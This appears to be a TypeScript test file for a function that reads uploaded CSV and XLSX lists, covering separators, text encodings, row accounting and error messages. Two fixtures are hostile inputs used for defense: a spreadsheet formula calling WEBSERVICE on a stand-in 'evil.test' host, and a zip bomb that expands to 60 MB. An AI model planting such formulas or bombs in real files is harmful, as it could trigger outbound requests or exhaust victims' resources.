import { strToU8, zipSync } from 'fflate'
import { describe, expect, test } from 'vitest'
import writeXlsxFile from 'write-excel-file/node'

import { cell, workbook } from '#tests/support/documents/workbook.ts'

import { readList } from './read-list.ts'

const csv = (text: string) => readList(Buffer.from(text))

const refusal = (bytes: Uint8Array) =>
  readList(bytes).then(
    () => 'read',
    (error: unknown) => (error as Error).message,
  )

describe('a list in CSV', () => {
  test('is read with any usual separator, with quotes and line breaks within cells', async () => {
    const expected = {
      headers: ['Name', 'Address'],
      rows: [{ row: 2, cells: ['Ana', '12 Oak Ln\nReno, NV 89501'] }],
    }
    expect(await csv('Name,Address\r\nAna,"12 Oak Ln\nReno, NV 89501"\r\n')).toMatchObject(expected)
    expect(await csv('Name;Address\nAna;"12 Oak Ln\nReno, NV 89501"')).toMatchObject(expected)
    expect(await csv('Name\tAddress\nAna\t"12 Oak Ln\nReno, NV 89501"')).toMatchObject(expected)
    expect(await csv('sep=|\nName|Address\nAna|"12 Oak Ln\nReno, NV 89501"')).toMatchObject(expected)
  })

  test('is read in UTF-8 with or without a byte order mark, UTF-16 and Windows-1252', async () => {
    const expected = { headers: ['Name'], rows: [{ row: 2, cells: ['José Müller'] }] }
    expect(await csv('Name\nJosé Müller')).toMatchObject(expected)
    expect(await csv('\uFEFFName\nJosé Müller')).toMatchObject(expected)
    expect(await readList(Buffer.from('Name\nJosé Müller', 'latin1'))).toMatchObject(expected)
    expect(await readList(Buffer.from('\uFEFFName\nJosé Müller', 'utf16le'))).toMatchObject(expected)
  })

  test('keeps row numbers across empty rows, and accepts short rows but no long ones', async () => {
    const { rows, accounting } = await csv('Name,City\n\nAna\n,,\nBen,Reno\nCy,Reno,too much\n')
    expect(rows).toEqual([
      { row: 3, cells: ['Ana', ''] },
      { row: 5, cells: ['Ben', 'Reno'] },
    ])
    expect(accounting).toMatchObject({ file_rows: 3, imported_rows: 2, blank_rows: 2 })
    expect(accounting.left_out).toMatchObject([{ row: 6, reason: 'extra_cells' }])
  })

  test('that is unreadable is rejected with a fix', async () => {
    expect(await refusal(Buffer.from(''))).toContain('empty')
    expect(await refusal(Buffer.from('Name,City\n'))).toContain('no row')
    expect(await refusal(Buffer.from('Name\0,City\nAna\0,Reno'))).toContain('neither CSV nor XLSX')
    expect(await refusal(Buffer.from([0xd0, 0xcf, 0x11, 0xe0]))).toContain('Excel 97')
    expect(await refusal(Buffer.from(`Name\n${'Ana\n'.repeat(5001)}`))).toContain('5,001 rows')
    expect(await refusal(Buffer.from(`Name\n${'x'.repeat(2001)}`))).toContain(
      'Row 2, column Name: the cell has',
    )
  })
})

describe('a list in XLSX', () => {
  test('returns values as displayed: text, numbers, dates and formula results', async () => {
    const bytes = await writeXlsxFile(
      [
        ['Name', 'Zip', 'By', 'Color'].map((value) => ({ value, type: String })),
        [
          { value: 'Ana', type: String },
          { value: 7030, type: Number },
          { value: new Date('2026-11-30T00:00:00Z'), type: Date, format: 'mm/dd/yyyy' },
          { value: true, type: Boolean },
        ],
      ],
      {},
    ).toBuffer()
    expect((await readList(bytes)).rows).toEqual([{ row: 2, cells: ['Ana', '7030', '2026-11-30', 'true'] }])
    const formula = workbook(
      `<row r="1">${cell('A1', 'Name')}</row><row r="2"><c r="A2" t="str"><f>WEBSERVICE("http://evil.test")</f><v>Kept</v></c></row>`,
    )
    expect((await readList(formula)).rows).toEqual([{ row: 2, cells: ['Kept'] }])
  })

  test('that unpacks to many times its size is rejected', async () => {
    const bomb = workbook(`<row r="1">${cell('A1', 'Name')}</row>`, {
      'xl/media/zeros.xml': new Uint8Array(60 * 1024 * 1024),
    })
    expect(bomb.byteLength).toBeLessThan(1024 * 1024)
    expect(await refusal(bomb)).toContain('too large')
  })

  test('that is damaged, or not a workbook, is rejected with a message', async () => {
    const good = workbook(`<row r="1">${cell('A1', 'Name')}</row>`)
    expect(await refusal(good.subarray(0, good.byteLength - 40))).toContain('workbook cannot be read')
    expect(await refusal(zipSync({ 'readme.txt': strToU8('hello') }))).toContain('workbook cannot be read')
  })
})
